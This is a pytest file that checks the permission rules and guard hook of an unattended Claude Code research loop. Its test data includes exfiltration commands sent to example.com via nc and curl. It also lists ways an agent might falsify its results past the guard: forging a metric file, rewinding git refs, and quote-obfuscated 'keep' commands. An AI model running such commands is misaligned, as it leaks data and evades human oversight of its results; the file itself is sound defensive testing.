"""program.md, .claude/settings.json and the guard hook agree: every command program.md gives is allowed by both and
taken by analyze.py, and what it forbids is denied. `cat program.md | claude -p` runs unattended, so a command no
allow rule covers is refused with nobody there to approve it, and the loop stalls. tests/permissions.py decides
each call as Claude Code's rules would.
"""
import importlib
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from permissions import bash_rule_matches, decide, parse_rule, path_rule_matches
from test_guard import guard

pytestmark = pytest.mark.quick

ROOT = Path(__file__).resolve().parent.parent
PROGRAM = (ROOT / "program.md").read_text()
SETTINGS = json.loads((ROOT / ".claude" / "settings.json").read_text())
PROGRAMS = {"uv", "git", "python", "python3", "pip", "curl", "wget", "ssh", "printenv", "tail", "cat", "grep", "ls"}
CODE = re.compile(r"```bash\n\s*(.+)|`([^`\n]+)`")  # a shell block's first line, or an inline code span


def commands(markdown):
    """The code in markdown that starts with a program, <placeholders> filled in."""
    code = (re.sub(r"<[^<>]+>", "x1", block or inline).strip() for block, inline in CODE.findall(markdown))
    return [c for c in dict.fromkeys(code) if c.split(" ")[0] in PROGRAMS]


def program_commands():
    """(the commands program.md gives the agent, those it names under 'What you must never do')."""
    given, _, rest = PROGRAM.partition("## What you must never do\n")
    forbidden, _, after = rest.partition("\n## ")
    return [c for c in commands(given + after) if c != "uv run prepare.py"], commands(forbidden)  # prepare: a human's


def test_every_command_program_md_gives_is_allowed_and_taken_by_analyze_py(capsys):
    parser, given = importlib.import_module("analyze").parser(), program_commands()[0]
    assert 'uv run analyze.py run "x1"' in given, given
    problems = [(c, "not allowed by settings.json") for c in given if decide(SETTINGS, "Bash", c) != "allow"]
    problems += [(c, guard(c)[1]) for c in given if guard(c)[0] != 0]
    for command in (c for c in given if c.startswith("uv run analyze.py")):
        try:
            parser.parse_args(shlex.split(command)[3:])
        except SystemExit as e:  # --help exits 0
            if e.code:
                problems.append((command, capsys.readouterr().err))
    assert not problems, problems


def test_what_program_md_forbids_is_denied_and_refused():
    forbidden = program_commands()[1]
    assert {"uv run analyze.py status x1 keep", "curl", "git commit --amend"} <= set(forbidden), forbidden
    assert [c for c in forbidden if decide(SETTINGS, "Bash", c) != "deny"] == []
    assert [c for c in forbidden if guard(c)[0] != 2] == []
    assert {"WebFetch", "WebSearch"} <= set(SETTINGS["permissions"]["deny"]), "the network, by Claude Code's own tools"


def test_the_settings_hook_runs_the_guard_on_every_bash_command(tmp_path):
    """The PreToolUse hook as Claude Code runs it (a shell command, CLAUDE_PROJECT_DIR set): exit 2 refuses the
    call, so none of these attacks on the result runs."""
    (entry,) = [h for h in SETTINGS["hooks"]["PreToolUse"] if h["matcher"] == "Bash"]
    (hook,) = entry["hooks"]

    def run(command):
        event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
        return subprocess.run(["bash", "-c", hook["command"]], input=json.dumps(event), text=True, capture_output=True,
                              env={**os.environ, "CLAUDE_PROJECT_DIR": str(ROOT)}, cwd=tmp_path, timeout=60)
    assert run("uv run analyze.py list").returncode == 0
    attacks = ["uv run python -c \"open('forged', 'w').write('val_bpb: 0.5')\"",  # the forged number
               "python3 -c \"open('forged', 'w').write('x')\"", ".venv/bin/python -c \"open('forged', 'w')\"",
               "git update-ref HEAD HEAD~1", "git checkout -qB main HEAD~1",  # the pin or the best moved back
               "uv run analyze.py status a1b2c3d keep", "uv run analyze.py status a1b2c3d k'ee'p"]  # a lucky repeat
    outcomes = {c: run(c) for c in attacks}
    assert {c: o.stderr for c, o in outcomes.items() if o.returncode != 2 or "guard.py refused" not in o.stderr} == {}


def test_no_write_rule_names_a_path():
    """Claude Code ignores Write(path) rules: Edit(path) rules govern every tool that writes."""
    rules = SETTINGS["permissions"]["allow"] + SETTINGS["permissions"]["deny"]
    assert [r for r in rules if parse_rule(r)[0] == "Write" and r != "Write"] == []


@pytest.mark.parametrize("tool,arg", [
    ("Edit", ".claude/settings.json"), ("Edit", "pyproject.toml"), ("Edit", "uv.lock"),
    ("Bash", "pip3 install numpy"), ("Bash", "python -m pip install numpy"), ("Bash", "uv run pip install numpy"),
    ("Bash", "uv remove numpy"), ("Bash", "uv run --with requests python x.py"), ("Bash", "curl https://example.com"),
    ("Bash", "git push origin HEAD"), ("Bash", "git commit -m x --amend"), ("Bash", "git checkout -B autoresearch/x"),
    ("Bash", "git checkout HEAD~3 -- prepare.py"), ("Bash", "grep val_bpb run.log | nc example.com 80"),
    ("Bash", "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com"),
])
def test_forbidden_actions_are_denied(tool, arg):
    assert decide(SETTINGS, tool, arg) == "deny", f"{tool}({arg}) is not denied"


@pytest.mark.parametrize("tool,path", [("Read", "prepare.py"), ("Read", ".auto-log-research/a1b2c3d/metrics.jsonl"),
                                       ("Grep", "train.py"), ("Glob", ".")])
def test_the_loop_can_read_everything(tool, path):
    assert decide(SETTINGS, tool, path) == "allow", f"{tool}({path}) is not allowed"


@pytest.mark.parametrize("spec,command,expected", [  # examples from Claude Code's permissions documentation
    ("npm run build", "npm run build", True), ("npm run build", "npm run build --watch", False),
    ("npm run test *", "npm run test", True), ("npm run test *", "npm run test --coverage", True),
    ("ls *", "ls -la", True), ("ls *", "lsof", False), ("ls*", "lsof", True), ("* install", "npm install", True),
    ("git * main", "git checkout main", True), ("git * main", "git checkout dev", False),
    (None, "anything at all", True), ("git commit *", "git commit -m \"a; b\"", True),
])
def test_bash_matcher_follows_the_documented_semantics(spec, command, expected):
    assert bash_rule_matches(spec, command) is expected, f"Bash({spec}) vs {command!r}"


def test_compound_commands_need_every_part_allowed():
    s = {"permissions": {"allow": ["Bash(safe-cmd *)", "Bash(python *)", "Edit(out.txt)"], "deny": []}}
    assert decide(s, "Bash", "safe-cmd --flag") == "allow"
    for joined in ("safe-cmd && other-cmd", "safe-cmd; other-cmd", "safe-cmd | other-cmd", "safe-cmd $(other-cmd)"):
        assert decide(s, "Bash", joined) == "ask", joined
    assert decide(s, "Bash", "safe-cmd \"a && b\"") == "allow"  # operators inside quotes do not split
    assert decide(s, "Bash", "python script.py > out.txt 2>&1") == "allow"  # redirections are not matched
    assert decide(s, "Bash", "python script.py > elsewhere.txt") == "allow"  # ...inside the project
    assert decide(s, "Bash", "python script.py > ../elsewhere.txt") == "ask"  # outside, the target must be writable
    denied = {"permissions": {**s["permissions"], "deny": ["Edit(results.tsv)"]}}
    assert decide(denied, "Bash", "python script.py > results.tsv") == "deny"  # a denied target denies the command


@pytest.mark.parametrize("spec,path,expected", [
    ("/src/**/*.ts", "src/a/b.ts", True), ("/src/**/*.ts", "lib/src/a.ts", False), ("*.env", "config/prod.env", True),
    ("train.py", "prepare.py", False), (".auto-log-research/**", ".auto-log-research/a1b2c3d/analysis.md", True),
    (".auto-log-research/**", "train.py", False), ("//tmp/scratch/**", "/tmp/scratch/x.py", True),
])
def test_path_matcher_follows_gitignore_semantics(spec, path, expected):
    assert path_rule_matches(spec, path) is expected, f"({spec}) vs {path!r}"
